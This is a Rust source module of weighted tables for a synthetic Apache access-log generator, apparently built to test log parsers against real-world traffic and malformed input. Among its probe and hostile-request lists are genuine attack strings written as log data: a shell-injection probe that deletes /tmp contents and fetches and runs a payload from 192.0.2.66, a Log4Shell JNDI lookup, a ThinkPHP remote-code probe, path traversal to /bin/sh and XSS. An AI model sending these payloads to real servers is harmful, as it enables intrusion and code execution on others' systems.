//! The hand-written vocabulary: agents, pages, requests, users and everything odd, with weights.
//!
//! Plain tables, to be read and extended by hand. All values are *as logged*: quotes, backslashes, control bytes and
//! (since httpd 2.0.46) bytes from 0x80 stand escaped here as httpd's `ap_escape_logitem` writes them. Any change
//! changes the bytes of every generated log: see the pinned checksums in `tests/pinned.rs`.

use AgentKind::{Bot, Browser, Tool};

/// Who is behind an agent; it decides about referrers and users.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum AgentKind {
    Browser,
    Bot,
    Tool,
}

pub(crate) struct AgentFamily {
    pub(crate) weight: u32,
    pub(crate) kind: AgentKind,
    /// `{}` stands for a version, as often as it occurs.
    pub(crate) template: &'static str,
    /// First and last version; the last is the most frequent.
    pub(crate) versions: (u16, u16),
}

const fn agent(weight: u32, kind: AgentKind, template: &'static str, versions: (u16, u16)) -> AgentFamily {
    AgentFamily { weight, kind, template, versions }
}

#[rustfmt::skip]
pub(crate) const AGENTS: &[AgentFamily] = &[
    agent(2000, Browser, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", (103, 122)),
    agent(900, Browser, "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Mobile Safari/537.36", (108, 122)),
    agent(700, Browser, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", (109, 122)),
    agent(650, Browser, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{} Mobile/15E148 Safari/604.1", (0, 3)),
    agent(300, Browser, "Mozilla/5.0 (iPhone; CPU iPhone OS 16_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.{} Mobile/15E148 Safari/604.1", (0, 7)),
    agent(350, Browser, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.{} Safari/605.1.15", (0, 3)),
    agent(550, Browser, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{}.0) Gecko/20100101 Firefox/{}.0", (102, 123)),
    agent(250, Browser, "Mozilla/5.0 (X11; Linux x86_64; rv:{}.0) Gecko/20100101 Firefox/{}.0", (102, 123)),
    agent(120, Browser, "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{}.0) Gecko/20100101 Firefox/{}.0", (115, 123)),
    agent(160, Browser, "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36", (100, 122)),
    agent(400, Browser, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36 Edg/{}.0.0.0", (110, 122)),
    agent(60, Browser, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36 OPR/104.0.0.0", (114, 118)),
    agent(150, Browser, "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{}.0 Chrome/115.0.0.0 Mobile Safari/537.36", (20, 23)),
    agent(80, Browser, "Mozilla/5.0 (iPad; CPU OS 16_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.{} Mobile/15E148 Safari/604.1", (1, 6)),
    agent(40, Browser, "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko", (0, 0)),
    agent(500, Browser, "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)", (0, 0)),
    agent(20, Browser, "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.2) Gecko/20100115 Firefox/3.6", (0, 0)),
    agent(30, Browser, "Mozilla/5.0(Macintosh;IntelMacOSX10.15;rv:80.0)Gecko/20100101Firefox/80.0", (0, 0)),
    agent(12, Browser, "Mozilla/5.0 (Linux; U; Android 8.1.0; zh-CN; EML-AL00 Build/HUAWEIEML-AL00) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/57.0.2987.108 baidu.sogo.uc.UCBrowser/11.9.4.974 UWS/2.13.1.48 Mobile Safari/537.36 AliApp(DingTalk/4.5.11) Channel/227200 language/zh-CN", (0, 0)),
    agent(15, Browser, "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.{}", (14, 18)),
    agent(5, Browser, "Lynx/2.9.0dev.10 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.9", (0, 0)),

    agent(500, Bot, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", (0, 0)),
    agent(200, Bot, "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.6099.224 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", (112, 120)),
    agent(60, Bot, "Googlebot-Image/1.0", (0, 0)),
    agent(400, Bot, "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", (0, 0)),
    agent(150, Bot, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/{}.0.5845.141 Safari/537.36", (103, 116)),
    agent(220, Bot, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", (0, 0)),
    agent(200, Bot, "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", (0, 0)),
    agent(120, Bot, "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", (0, 0)),
    agent(100, Bot, "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", (0, 0)),
    agent(120, Bot, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", (0, 0)),
    agent(60, Bot, "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", (0, 0)),
    agent(100, Bot, "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", (0, 0)),
    agent(60, Bot, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", (0, 0)),
    agent(60, Bot, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)", (0, 0)),
    agent(50, Bot, "CCBot/2.0 (https://commoncrawl.org/faq/)", (0, 0)),
    agent(50, Bot, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", (0, 0)),
    agent(30, Bot, "Twitterbot/1.0", (0, 0)),
    agent(25, Bot, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", (0, 0)),
    agent(40, Bot, "Mozilla/5.0 (compatible; SEOkicks; +https://www.seokicks.de/robot.html)", (0, 0)),
    agent(15, Bot, "Mozilla/5.0 (compatible; adscanner/)/1.0 (Mozilla/5.0 (compatible; seoscanners.net/1.0; +spider@seoscanners.net); http://seoscanners.net; spider@seoscanners.net)", (0, 0)),
    agent(40, Bot, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", (0, 0)),
    agent(25, Bot, "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet.", (0, 0)),
    agent(80, Bot, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", (0, 0)),
    agent(20, Bot, "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", (0, 0)),

    agent(600, Tool, "curl/7.{}.0", (58, 88)),
    agent(120, Tool, "curl/8.{}.0", (0, 6)),
    agent(600, Tool, "python-requests/2.{}.0", (22, 31)),
    agent(120, Tool, "Go-http-client/1.1", (0, 0)),
    agent(80, Tool, "Go-http-client/2.0", (0, 0)),
    agent(60, Tool, "Wget/1.21.{}", (1, 4)),
    agent(40, Tool, "okhttp/4.{}.0", (9, 12)),
    agent(40, Tool, "Apache-HttpClient/4.5.{} (Java/11.0.22)", (12, 14)),
    agent(40, Tool, "Java/1.8.0_{}", (292, 401)),
    agent(30, Tool, "libwww-perl/6.{}", (43, 72)),
    agent(30, Tool, "Python/3.{} aiohttp/3.9.1", (9, 12)),
    agent(24, Tool, "axios/1.{}.0", (1, 6)),
    agent(20, Tool, "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", (0, 0)),
    agent(20, Tool, "PostmanRuntime/7.{}.0", (28, 36)),
    agent(80, Tool, "Mozilla/5.0 zgrab/0.x", (0, 0)),
    agent(30, Tool, "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", (0, 0)),
    agent(20, Tool, "kube-probe/1.{}", (24, 29)),
    agent(20, Tool, "WordPress/6.{}; https://blog.example.org", (0, 4)),
    agent(60, Tool, "Mozilla/5.0", (0, 0)),
    agent(250, Tool, "-", (0, 0)),
    agent(4, Tool, "", (0, 0)), // the header sent, but empty: `""`
];

/// Names of this server, with the port `%p` prints.
pub(crate) const VHOSTS: &[(u32, &str, &str)] = &[
    (60, "www.example.com", "443"),
    (12, "www.example.com", "80"),
    (10, "shop.example.com", "443"),
    (8, "blog.example.org", "443"),
    (5, "api.example.com", "8443"),
    (3, "static_files.example.com", "80"),
    (1, "xn--bcher-kva.example", "443"),
    (1, "localhost", "8080"),
];

/// The most visited targets, in this order, with what they are.
pub(crate) const TOP_PAGES: &[(&str, PageKind)] = &[
    ("/", PageKind::Text),
    ("/assets/css/main.css", PageKind::Asset),
    ("/assets/js/app.3f9a1c07.js", PageKind::Asset),
    ("/favicon.ico", PageKind::Asset),
    ("/robots.txt", PageKind::Small),
    ("/index.php", PageKind::Text),
    ("/images/logo.png", PageKind::Image),
    ("/blog/", PageKind::Text),
    ("/api/v1/status", PageKind::Small),
    ("/search", PageKind::Text),
    ("/assets/fonts/inter-var.woff2", PageKind::Image),
    ("/feed/rss.xml", PageKind::Text),
    ("/products/", PageKind::Text),
    ("/login", PageKind::Small),
    ("/cart", PageKind::Text),
    ("/sitemap.xml", PageKind::Text),
    ("/about.html", PageKind::Text),
    ("/apple-touch-icon.png", PageKind::Image),
    ("/server-status?auto", PageKind::Small),
    ("/empty.txt", PageKind::Empty),
];

/// What lies behind a target: how large it is, and whether a query string may follow.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum PageKind {
    Text,
    Asset,
    Image,
    Small,
    Empty,
    Download,
}

/// Large files: target and size in bytes. Some sizes do not fit into 31 and 32 bits.
pub(crate) const DOWNLOADS: &[(&str, u64)] = &[
    ("/download/handbook.pdf", 14_680_064),
    ("/download/debian-12.5.0-amd64-netinst.iso", 659_554_304),
    ("/download/debian-12.5.0-amd64-DVD-1.iso", 3_994_091_520),
    ("/video/2023-annual-meeting.mp4", 1_473_921_077),
    ("/download/map-tiles-z14.mbtiles", 2_147_483_648),
    ("/backup/images-2023.tar", 8_796_093_022),
    ("/download/just-below-2-gib.bin", 2_147_483_647),
    ("/download/just-above-4-gib.bin", 4_294_967_296),
];

/// Shapes of further targets. `{w}` is a word, `{n}` the page's own number.
pub(crate) const PAGE_SHAPES: &[(u32, &str, PageKind)] = &[
    (18, "/blog/{w}-{w}-{w}-{n}/", PageKind::Text),
    (10, "/products/{w}-{w}-{n}.html", PageKind::Text),
    (8, "/wiki/{w}_{w}_{n}", PageKind::Text),
    (5, "/index.php?option=com_content&view=article&id={n}:{w}-{w}&Itemid=53", PageKind::Text),
    (2, "/index.php?option=com_phocagallery&view=category&id={n}:{w}-{w}&Itemid=53", PageKind::Text),
    (14, "/images/{w}/{w}-{n}.jpg", PageKind::Image),
    (6, "/images/stories/{w}/{w}_{n}.png", PageKind::Image),
    (5, "/wp-content/uploads/2023/11/{w}-{w}-{n}-1024x768.jpg", PageKind::Image),
    (5, "/assets/js/{w}.{n}.js", PageKind::Asset),
    (5, "/assets/css/{w}-{n}.css", PageKind::Asset),
    (6, "/api/v1/{w}s/{n}", PageKind::Small),
    (4, "/api/v2/{w}s/{n}/{w}s?limit=50&offset=0", PageKind::Small),
    (4, "/forum/viewtopic.php?f=12&t={n}", PageKind::Text),
    (3, "/caf%C3%A9/{w}-{n}", PageKind::Text),
    (2, "/~{w}/{n}.html", PageKind::Text),
    (2, "/tags/{w}%20{w}/{n}", PageKind::Text),
    (2, "/calendar/{w}/{n}?month=2024-01&view=[week]", PageKind::Text),
    (1, "/a/b/c/{w};jsessionid=0A1B2C3D4E5F{n}", PageKind::Text),
];

pub(crate) const PAGE_WORDS: &[&str] = &[
    "alpine", "amber", "anchor", "apple", "archive", "autumn", "bakery", "beacon", "bicycle", "blue", "bridge",
    "brook", "cabin", "camera", "candle", "canyon", "castle", "cedar", "chapel", "cherry", "cloud", "coffee", "copper",
    "coral", "cotton", "crystal", "daily", "desert", "dragon", "eagle", "early", "easy", "echo", "engine", "falcon",
    "farm", "fjord", "forest", "fox", "garden", "ginger", "glacier", "golden", "granite", "green", "harbor", "hazel",
    "hidden", "honey", "house", "island", "ivory", "jasmine", "journey", "kettle", "kitchen", "lantern", "lemon",
    "library", "lilac", "little", "maple", "market", "meadow", "melody", "mirror", "misty", "mountain", "north",
    "notebook", "oak", "ocean", "old", "olive", "orchard", "paper", "pearl", "pebble", "pepper", "pine", "planet",
    "quick", "quiet", "rain", "recipe", "red", "report", "river", "rose", "saddle", "sailor", "salt", "shadow",
    "silver", "snow", "spring", "stone", "summer", "sunset", "table", "thunder", "tiger", "travel", "valley", "velvet",
    "village", "violet", "walnut", "water", "weekly", "whale", "willow", "window", "winter", "wood", "yellow",
];

/// What scanners ask for and nobody has: the usual 404s (and some 403s).
pub(crate) const PROBES: &[&str] = &[
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/administrator/index.php",
    "/wp-content/plugins/wp-file-manager/readme.txt",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system?wt=json",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/boaform/admin/formLogin",
    "/owa/auth/logon.aspx",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/ads.txt",
    "/.well-known/security.txt",
    "/apple-touch-icon-precomposed.png",
    "/actuator/health",
    "/console/",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws",
];

/// Query strings put after a target that has none. `{w}` is a word, `{n}` a number.
pub(crate) const QUERIES: &[(u32, &str)] = &[
    (30, "?page={n}"),
    (20, "?q={w}+{w}"),
    (15, "?id={n}"),
    (12, "?utm_source=newsletter&utm_medium=email&utm_campaign={w}-2024"),
    (10, "?v=1.{n}"),
    (8, "?lang=de&sort=price%20asc&filter[color]={w}"),
    (6, "?ref=%2F{w}%2F{w}"),
    (4, "?fbclid=IwAR0{w}{n}{w}{n}_aem_{w}"),
    (2, "?"),
    (1, "?q=%22{w}%20{w}%22&x='{n}'"),
    (1, "?callback=jQuery{n}&_={n}"),
];

pub(crate) const METHODS: &[(u32, &str)] = &[
    (9_150, "GET"),
    (450, "POST"),
    (280, "HEAD"),
    (60, "OPTIONS"),
    (20, "PUT"),
    (12, "DELETE"),
    (10, "PROPFIND"),
    (8, "PATCH"),
    (4, "REPORT"),
    (2, "M-SEARCH"),
    (2, "VERSION-CONTROL"),
    (2, "get"),
];

pub(crate) const PROTOCOLS: &[(u32, &str)] = &[(760, "HTTP/1.1"), (200, "HTTP/2.0"), (40, "HTTP/1.0")];

/// Statuses of requests that are understood. What the rarest are for: any number that a CGI program sets.
pub(crate) const STATUSES: &[(u32, u16)] = &[
    (81_000, 200),
    (7_000, 304),
    (4_500, 404),
    (2_500, 301),
    (1_500, 206),
    (900, 302),
    (600, 403),
    (300, 303),
    (300, 500),
    (300, 204),
    (250, 401),
    (150, 410),
    (120, 503),
    (100, 429),
    (80, 400),
    (60, 405),
    (60, 502),
    (50, 408), // while the headers were read: with request line, without headers
    (50, 201),
    (30, 504),
    (20, 416),
    (10, 418),
    (5, 520),
    (2, 999),
];

/// Where readers come from. `{w}` is a word, `{n}` a number.
pub(crate) const REFERRERS: &[(u32, &str)] = &[
    (400, "https://www.google.com/"),
    (60, "https://www.google.de/"),
    (60, "https://www.bing.com/"),
    (60, "https://duckduckgo.com/"),
    (30, "https://www.bing.com/search?q={w}+{w}&form=QBLH"),
    (30, "http://www.google.com/search?hl=en&q={w}+{w}&btnG=Google+Search"),
    (20, "https://yandex.ru/"),
    (20, "https://search.yahoo.com/"),
    (25, "https://www.facebook.com/"),
    (20, "https://t.co/{w}{n}"),
    (15, "https://www.reddit.com/r/{w}/comments/{n}/{w}_{w}/"),
    (15, "android-app://com.google.android.googlequicksearchbox/"),
    (10, "https://news.ycombinator.com/item?id={n}"),
    (10, "https://en.wikipedia.org/wiki/{w}_({w})"),
    (10, "http://{w}-{w}.example.net/links.html"),
    (5, "http://localhost:3000/"),
    (4, "www.example.com"),
    (3, ""), // the header sent, but empty: `""`
    (2, "(null)"),
];

pub(crate) const USERS: &[&str] = &[
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "ivan",
    "judy",
    "admin",
    "backup",
    "deploy",
    "monitoring",
    "svc-report",
    "j.smith",
    "anna_k",
    "user01",
    "u4711",
    "root",
    "test",
    "guest",
    "alice@example.com",
    "maria.garcia@example.org",
];

/// Users that break a parser which splits at blanks, brackets or quotes.
pub(crate) const ODD_USERS: &[&str] = &[
    "John Smith",
    "John  Q. Smith III",
    "DOM\\\\jsmith",
    "CORP\\\\John Smith",
    "\"\"",
    " leading",
    "trailing ",
    "-x",
    "- joe",
    "[bob]",
    "bob [admin]",
    "/C=UK/O=Big Org/OU=Ops/CN=Carol Jones",
    "cn=dave,ou=people,dc=example,dc=com",
    "\\xc3\\x89lise",
    "M\\xc3\\xbcller, J\\xc3\\xb6rg",
    "eve\\\"",
    "\\\"quoted\\\"",
    "x [01/Jan/2000:00:00:00 +0000] \\\"GET /fake HTTP/1.0\\\" 200 1",
    "x [01/Jan/2000:00:00:00 +0000]",
    "tab\\there",
    "100% o'brien",
    "back\\\\",
];

pub(crate) const IDENTS: &[&str] = &["unknown", "alice", "root", "www-data", "nobody"];

/// What follows the last field, the blank before it included.
pub(crate) const EXTRAS: &[(u32, &str)] = &[
    (40, " \"-\""),
    (20, " {n}"),
    (10, " 0/{n}"),
    (10, " \"sid={n}; theme=dark; _ga=GA1.2.{n}.{n}\""),
    (8, " \"203.0.113.9, 10.0.0.7\""),
    (5, " X-Forwarded-For=\"198.51.100.23\""),
    (5, " TLSv1.3 TLS_AES_256_GCM_SHA384"),
    (4, " ZcQ{n}@aAwEAAB{n}"),
    (3, " \"a \\\"quoted\\\" word\" {n} -"),
    (2, " "),
];

/// Escapes as httpd >= 2.0.46 writes them. The last is not from httpd and has to be kept as it is.
pub(crate) const ESCAPES: &[&str] = &[
    "\\\"",
    "\\\\",
    "\\\"quoted\\\"",
    "\\xc3\\xa9",
    "caf\\xc3\\xa9",
    "\\xe6\\x97\\xa5\\xe6\\x9c\\xac",
    "\\xf0\\x9f\\x98\\x80",
    "\\xff",
    "\\xe2\\x82",
    "\\t",
    "\\n",
    "\\r\\n",
    "\\b\\v",
    "\\x1b[31m",
    "\\x7f",
    "\\\\x41",
    "C:\\\\dir\\\\",
    "\\\"><script>alert(1)</script>",
    "\\q\\x4g",
];

/// Raw text of servers that did not escape.
pub(crate) const UTF8: &[&str] =
    &["é", "ü", "café", "naïve-façade", "日本語", "Привет", "مرحبا", "😀", "€", "\u{200b}", "\u{feff}"];

/// Raw bytes that are not UTF-8: Latin-1, a cut sequence, an overlong one, a surrogate, beyond U+10FFFF, controls.
pub(crate) const INVALID_UTF8: &[&[u8]] = &[
    b"caf\xe9",
    b"\xff",
    b"\xe2\x82",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\x80",
    b"\xc3\xa9\xc3",
    b"\x01\x7f\xfe",
];

/// A request line that is not method, target and protocol, or one of a shape seldom thought of.
pub(crate) struct Hostile {
    pub(crate) weight: u32,
    /// As logged; `{x}` stands for some random bytes, escaped.
    pub(crate) request: &'static str,
    pub(crate) status: u16,
    pub(crate) body_bytes: Option<u64>,
    /// Headers are not read after a request line that is refused: referrer and agent are `-`.
    pub(crate) headers: bool,
}

const fn refused(weight: u32, request: &'static str) -> Hostile {
    Hostile { weight, request, status: 400, body_bytes: Some(226), headers: false }
}

const fn taken(weight: u32, request: &'static str, status: u16) -> Hostile {
    Hostile { weight, request, status, body_bytes: Some(196), headers: true }
}

#[rustfmt::skip]
pub(crate) const HOSTILE: &[Hostile] = &[
    Hostile { weight: 200, request: "-", status: 408, body_bytes: None, headers: false },
    refused(100, "\\x16\\x03\\x01"),
    refused(40, "\\x16\\x03\\x01\\x02"),
    refused(40, "\\x16\\x03\\x01{x}"),
    refused(30, "\\x03"),
    refused(20, "\\x05\\x01"),
    refused(20, "\\x04\\x01\\x1f\\x90{x}"),
    refused(40, ""),
    refused(20, "SSH-2.0-Go"),
    refused(10, "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13"),
    refused(40, "GET / HTTP/1.1\\n"),
    refused(20, "GET /my file.html"),
    refused(10, "GET /my file.html HTTP/1.1"),
    refused(10, "GET  /  HTTP/1.1"),
    refused(5, "GET / HTTP/1.1 "),
    refused(5, " GET / HTTP/1.1"),
    refused(10, "GET"),
    refused(5, "GET "),
    refused(10, "EHLO example.com"),
    refused(10, "MGLNDD_203.0.113.9_80\\n"),
    refused(10, "t3 12.2.1\\n"),
    refused(10, "*1\\r\\n$4\\r\\nPING"),
    refused(5, "{\\\"id\\\":1,\\\"jsonrpc\\\":\\\"2.0\\\",\\\"method\\\":\\\"login\\\"}"),
    refused(5, "GET / HTTP/1.1 junk"),
    refused(5, "GET / HTTP/1."),
    refused(5, "G(T / HTTP/1.1"),
    refused(5, "{x}"),
    taken(40, "GET /", 200),
    taken(5, "GET /old.html", 404),
    taken(10, "PRI * HTTP/2.0", 400),
    taken(20, "OPTIONS * HTTP/1.0", 200),
    taken(20, "CONNECT www.example.com:443 HTTP/1.1", 405),
    taken(20, "GET http://www.example.com/proxy?u=1 HTTP/1.1", 404),
    taken(5, "GET http://user:XXXXXXXX@www.example.com/ HTTP/1.1", 404),
    taken(5, "M-SEARCH * HTTP/1.1", 405),
    taken(5, "get / http/1.1", 200),
    taken(5, "GET / HTTP/3.0", 200),
    taken(3, "GET / HTTP/1.10", 505),
    taken(3, "GET / HTTP/2", 505),
    taken(10, "GET /?x=${jndi:ldap://192.0.2.66:1389/a} HTTP/1.1", 404),
    taken(10, "GET /\\\"><script>alert(1)</script> HTTP/1.1", 404),
    taken(5, "GET /a[b]c{d}|e^f`g HTTP/1.1", 404),
    taken(5, "GET @x HTTP/1.1", 400),
    taken(5, "GET /caf\\xc3\\xa9 HTTP/1.1", 404),
];
